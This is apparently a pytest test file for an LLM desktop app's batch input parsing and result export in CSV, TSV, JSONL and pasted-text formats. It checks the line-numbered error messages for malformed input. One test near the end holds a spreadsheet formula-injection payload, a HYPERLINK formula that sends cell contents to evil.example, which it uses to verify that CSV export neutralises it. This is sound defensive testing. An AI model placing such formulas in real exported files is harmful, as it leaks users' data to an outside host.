"""Batch input (CSV, TSV, JSONL, pasted text) with precise errors, and result export (CSV, JSONL)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from desktop_llm.core.prompt_templates import PromptTemplate, VariableSpec
from desktop_llm.providers import Usage
from desktop_llm.services.batch import RowResult
from desktop_llm.services.batch_io import (
    BatchInput,
    BatchInputError,
    read_batch_file,
    read_csv,
    read_jsonl,
    read_pasted,
    write_results_csv,
    write_results_jsonl,
)

TRANSLATE = PromptTemplate(
    name="Translate",
    user="Translate {text} into {language} ({formality}).",
    specs=(
        VariableSpec("text", multi_line=True),
        VariableSpec("language"),
        VariableSpec("formality", default="neutral"),
    ),
)
ONE_VARIABLE = PromptTemplate(
    name="Summarise",
    user="Summarise {text} for {audience}.",
    specs=(VariableSpec("text"), VariableSpec("audience", default="me")),
)


def error_of(reader, *args, **kwargs) -> BatchInputError:  # type: ignore[no-untyped-def]
    with pytest.raises(BatchInputError) as caught:
        reader(*args, **kwargs)
    return caught.value


# -- CSV ------------------------------------------------------------------------------------


def test_csv_header_names_the_columns_and_extra_columns_ride_along() -> None:
    batch = read_csv('id,text,language\n1,"Hello, world",French\n2,"two\nlines",German\n', TRANSLATE)
    assert batch == BatchInput(
        ("id", "text", "language"),
        (
            {"id": "1", "text": "Hello, world", "language": "French"},
            {"id": "2", "text": "two\nlines", "language": "German"},
        ),
    )


def test_csv_with_bom_crlf_blank_and_empty_rows() -> None:
    text = '\ufefftext,language\r\n\r\nhi,French\r\n,,\r\n"",German\r\n'
    batch = read_csv(text, TRANSLATE)
    assert batch.columns == ("text", "language")
    assert batch.rows == ({"text": "hi", "language": "French"}, {"text": "", "language": "German"})


def test_tsv() -> None:
    batch = read_csv("text\tlanguage\na, b\tFrench\n", TRANSLATE, delimiter="\t")
    assert batch.rows == ({"text": "a, b", "language": "French"},)


def test_a_missing_column_the_template_needs_is_named() -> None:
    error = error_of(read_csv, "text,id\nhi,1\n", TRANSLATE)
    assert str(error) == (
        "Line 1: The input has no column for {language}, which the template needs (no default). "
        "Columns found: text, id."
    )
    assert error.line == 1


def test_columns_with_defaults_may_be_left_out_and_no_template_means_no_check() -> None:
    assert read_csv("text,language\na,b\n", TRANSLATE).rows[0] == {"text": "a", "language": "b"}
    assert read_csv("anything\nx\n").columns == ("anything",)


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        (
            "text,language\nhi,French,extra\n",
            2,
            "this row has 3 values but the header names 2 columns (text, language)",
        ),
        ("text,language\nok,French\nshort\n", 3, "this row has 1 value but the header names 2 columns"),
        (
            'text,language\n"a\nb",French\nc,"never closed\n',
            4,
            'a quoted value is never closed (a " is missing)',
        ),
        ('text,language\n"a"b,French\n', 2, "a closing quote is followed by more text"),
        ("text,,language\n", 1, "column 2 of the header row has no name"),
        ("text,language,text\n", 1, "the header row names the column 'text' twice"),
    ],
)
def test_malformed_csv_is_reported_with_its_line(text: str, line: int, words: str) -> None:
    error = error_of(read_csv, text, TRANSLATE)
    assert error.line == line
    assert str(error).startswith(f"Line {line}: ")
    assert words in str(error)


@pytest.mark.parametrize(
    ("text", "words"),
    [("", "The input is empty"), ("\n\n", "The input is empty"), ("text,language\n", "no rows")],
)
def test_empty_csv(text: str, words: str) -> None:
    error = error_of(read_csv, text, TRANSLATE)
    assert words in str(error)


# -- JSONL ----------------------------------------------------------------------------------


def test_jsonl_rows_with_defaults_and_non_string_values() -> None:
    text = (
        '{"text": "hi", "language": "French"}\n'
        "\n"
        '{"text": 3, "language": "German", "formality": null, "tags": ["a", "é"], "ok": true}\r\n'
    )
    batch = read_jsonl(text, TRANSLATE)
    assert batch.columns == ("text", "language", "formality", "tags", "ok")
    assert batch.rows == (
        {"text": "hi", "language": "French"},
        {"text": "3", "language": "German", "tags": '["a","é"]', "ok": "true"},
    )


def test_jsonl_lines_end_only_at_newlines() -> None:
    batch = read_jsonl('{"text": "a\u2028b\u0085c", "language": "x"}\n', TRANSLATE)
    assert batch.rows[0]["text"] == "a\u2028b\u0085c"


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        (
            '{"text": "a", "language": "b"}\n{"text": "a" "language": "b"}\n',
            2,
            "not valid JSON: Expecting ',' delimiter (column 14)",
        ),
        ('\n\n["a", "b"]\n', 3, "expected a JSON object {...}, found a list"),
        ('"just text"\n', 1, "found a string"),
        ("42\n", 1, "found a number"),
        (
            '{"text": "a", "language": "b"}\n{"text": "a"}\n',
            2,
            "no value for {language}, which the template needs",
        ),
        ('{"text": "a", "language": null}\n', 1, "no value for {language}"),
    ],
)
def test_malformed_jsonl_is_reported_with_its_line(text: str, line: int, words: str) -> None:
    error = error_of(read_jsonl, text, TRANSLATE)
    assert error.line == line
    assert words in str(error)


def test_empty_jsonl() -> None:
    assert "no rows" in str(error_of(read_jsonl, "\n  \n", TRANSLATE))


# -- pasted text ----------------------------------------------------------------------------


def test_pasted_lines_fill_the_first_variable() -> None:
    batch = read_pasted("first\n\n  second  \r\nthird", ONE_VARIABLE)
    assert batch == BatchInput(("text",), ({"text": "first"}, {"text": "  second  "}, {"text": "third"}))


def test_pasted_blocks_separated_by_dashes_keep_their_lines() -> None:
    batch = read_pasted("def f():\n    return 1\n---\n\nline one\nline two\n\n---\n---\n", ONE_VARIABLE)
    assert [row["text"] for row in batch.rows] == ["def f():\n    return 1", "line one\nline two"]


def test_a_pasted_spreadsheet_table_is_read_with_its_header() -> None:
    batch = read_pasted("text\tlanguage\nhi\tFrench\n", TRANSLATE)
    assert batch.rows == ({"text": "hi", "language": "French"},)


def test_pasted_lines_cannot_fill_a_second_required_variable() -> None:
    error = error_of(read_pasted, "hi\nthere", TRANSLATE)
    assert "fill only {text}, but the template also needs {language}" in str(error)
    assert "header row" in str(error)


def test_nothing_pasted() -> None:
    assert "Nothing was pasted" in str(error_of(read_pasted, " \n---\n", ONE_VARIABLE))
    assert "no variables" in str(error_of(read_pasted, "x", PromptTemplate("T", user="hi")))


# -- files ----------------------------------------------------------------------------------


def test_files_are_read_by_extension(tmp_path: Path) -> None:
    (tmp_path / "rows.csv").write_text("text,language\na,b\n", encoding="utf-8")
    (tmp_path / "rows.TSV").write_text("text\tlanguage\na,x\tb\n", encoding="utf-8")
    (tmp_path / "rows.jsonl").write_text('{"text": "a", "language": "b"}\n', encoding="utf-8")
    (tmp_path / "rows.txt").write_text("one\ntwo\n", encoding="utf-8")
    assert read_batch_file(tmp_path / "rows.csv", TRANSLATE).rows == ({"text": "a", "language": "b"},)
    assert read_batch_file(tmp_path / "rows.TSV", TRANSLATE).rows == ({"text": "a,x", "language": "b"},)
    assert read_batch_file(tmp_path / "rows.jsonl", TRANSLATE).rows == ({"text": "a", "language": "b"},)
    assert len(read_batch_file(tmp_path / "rows.txt", ONE_VARIABLE).rows) == 2
    assert "needs the template" in str(error_of(read_batch_file, tmp_path / "rows.txt"))


def test_unreadable_and_non_utf8_files(tmp_path: Path) -> None:
    assert "Cannot read" in str(error_of(read_batch_file, tmp_path / "missing.csv", TRANSLATE))
    (tmp_path / "latin1.csv").write_bytes("text,language\nok,b\ncaf\xe9,b\n".encode("latin-1"))
    error = error_of(read_batch_file, tmp_path / "latin1.csv", TRANSLATE)
    assert error.line == 3 and "not UTF-8" in str(error)


# -- results --------------------------------------------------------------------------------

BATCH = BatchInput(
    ("id", "text", "status"),
    (
        {"id": "1", "text": "a", "status": "new"},
        {"id": "2", "text": "b\nc", "status": "x"},
        {"id": "3", "text": "d", "status": ""},
    ),
)
RESULTS = {
    0: RowResult(
        0,
        "done",
        text='Une "réponse", ok',
        finish_reason="stop",
        model="m-1",
        usage=Usage(10, 4),
        seconds=1.23456,
    ),
    1: RowResult(1, "failed", error="The provider failed (500).", seconds=0.5),
}


def test_results_as_csv_one_line_per_input_row() -> None:
    out = io.StringIO()
    write_results_csv(out, BATCH, RESULTS)
    table = list(csv.reader(io.StringIO(out.getvalue())))
    assert table == [
        [
            "row",
            "id",
            "text",
            "input:status",
            "status",
            "output",
            "error",
            "cached",
            "model",
            "finish_reason",
            "input_tokens",
            "output_tokens",
            "seconds",
        ],
        ["1", "1", "a", "new", "done", 'Une "réponse", ok', "", "false", "m-1", "stop", "10", "4", "1.235"],
        ["2", "2", "b\nc", "x", "failed", "", "The provider failed (500).", "false", "", "", "", "", "0.5"],
        ["3", "3", "d", "", "pending", "", "", "false", "", "", "", "", ""],
    ]


def test_results_as_jsonl_keep_inputs_apart() -> None:
    out = io.StringIO()
    write_results_jsonl(out, BATCH, RESULTS)
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    assert lines[0] == {
        "row": 1,
        "input": {"id": "1", "text": "a", "status": "new"},
        "status": "done",
        "output": 'Une "réponse", ok',
        "error": None,
        "cached": False,
        "model": "m-1",
        "finish_reason": "stop",
        "input_tokens": 10,
        "output_tokens": 4,
        "seconds": 1.235,
    }
    assert lines[1]["status"] == "failed" and lines[1]["error"] == "The provider failed (500)."
    assert lines[2]["status"] == "pending" and lines[2]["output"] is None
    assert len(lines) == 3


def test_exported_csv_reads_back_as_input() -> None:
    out = io.StringIO()
    write_results_csv(out, BATCH, RESULTS)
    again = read_csv(out.getvalue())
    assert [row["text"] for row in again.rows] == ["a", "b\nc", "d"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(start: str) -> None:
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    batch = BatchInput(("text",), ({"text": hostile},))
    results = {0: RowResult(0, "done", text=hostile, model="m")}
    out = io.StringIO()
    write_results_csv(out, batch, results)
    table = list(csv.reader(io.StringIO(out.getvalue())))
    assert table[1][1] == "'" + hostile  # the input column
    assert table[1][3] == "'" + hostile  # the model's output
    plain = io.StringIO()
    write_results_jsonl(plain, batch, results)
    assert json.loads(plain.getvalue())["output"] == hostile  # JSONL is data, not a sheet


def test_csv_cells_with_a_formula_start_inside_are_left_alone() -> None:
    batch = BatchInput(("text",), ({"text": "a=b, 1+1 -x @y"},))
    out = io.StringIO()
    write_results_csv(out, batch, {0: RowResult(0, "done", text="3 - 2 = 1")})
    table = list(csv.reader(io.StringIO(out.getvalue())))
    assert table[1][1] == "a=b, 1+1 -x @y" and table[1][3] == "3 - 2 = 1"
